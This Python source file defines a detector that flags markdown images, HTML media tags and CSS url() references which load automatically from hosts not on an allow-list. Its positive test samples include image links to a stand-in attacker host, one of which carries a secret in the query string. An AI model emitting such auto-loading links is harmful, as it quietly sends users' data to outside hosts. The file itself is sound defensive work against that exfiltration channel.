"""Links that an app follows by itself, to hosts that are not listed."""

from __future__ import annotations

import re
from collections.abc import Iterable
from functools import lru_cache

from proxy.checks.detectors.detector import Detector, Options, Recogniser, Validation, Validator, dropped, found

_TITLE = r"[^)\n]{0,200}"
_IMAGE = (
    rf"(?P<image>!\[[^\]\n]{{0,300}}\](?:\(\s{{0,3}}<?(?P<url>(?:https?:)?//[^\s)>]{{1,1500}})>?{_TITLE}\)))|"
    r"(?P<html><(?i:img|iframe|video|audio|source|embed|object|link|script)\s[^>]{0,600}?"
    r"(?i:src|srcset|href|data|poster)\s?=\s?[\"']?(?P<source>(?:https?:)?//[^\s\"'>]{1,1500})[^>]{0,600}>)|"
    r"(?P<css>url\(\s?[\"']?(?P<ground>(?:https?:)?//[^\s\"')]{1,1500})[\"']?\s?\))"
)
_HOST = re.compile(r"(?:https?:)?//(?:[^/@?#\\]*@)?(\[[^\]]*\]|[^/:?#\\]*)", re.IGNORECASE)


@lru_cache(maxsize=64)
def _outbound(hosts: tuple[str, ...]) -> Validator:
    def validate(match: re.Match[str]) -> Validation:
        url = match["url"] or match["source"] or match["ground"]
        if is_listed(url, hosts):
            return dropped("its host is on the list", skip=True)
        return found(*match.span())

    return validate


def is_listed(url: str, hosts: Iterable[str]) -> bool:
    """Whether a URL's host is one of these, or lies below one of them."""
    match = _HOST.match(url)
    host = match[1].lower().rstrip(".") if match else ""
    return any(host == listed.lower() or host.endswith("." + listed.lower()) for listed in hosts)


def _outbound_recogniser(options: Options) -> Recogniser:
    return Recogniser(_IMAGE, _outbound(options.hosts))


OUTBOUND_LINKS = Detector(
    "outbound_links",
    "images and other links that an app loads by itself, from hosts that are not listed",
    _outbound_recogniser,
    (
        "![x](https://evil.example/?d=secret)",
        "![](//evil.example/a.png 'title')",
        '<img src="https://evil.example/x.png">',
        "<IMG alt=x SRC=http://evil.example/x>",
        "background:url(https://evil.example/x)",
    ),
    (
        "[a link](https://example.com/)",
        "![x](local.png)",
        "![x](data:image/png;base64,AAAA)",
        "<img src='/logo.png'>",
        "https://example.com/x.png",
    ),
    takes=frozenset(("hosts",)),
)
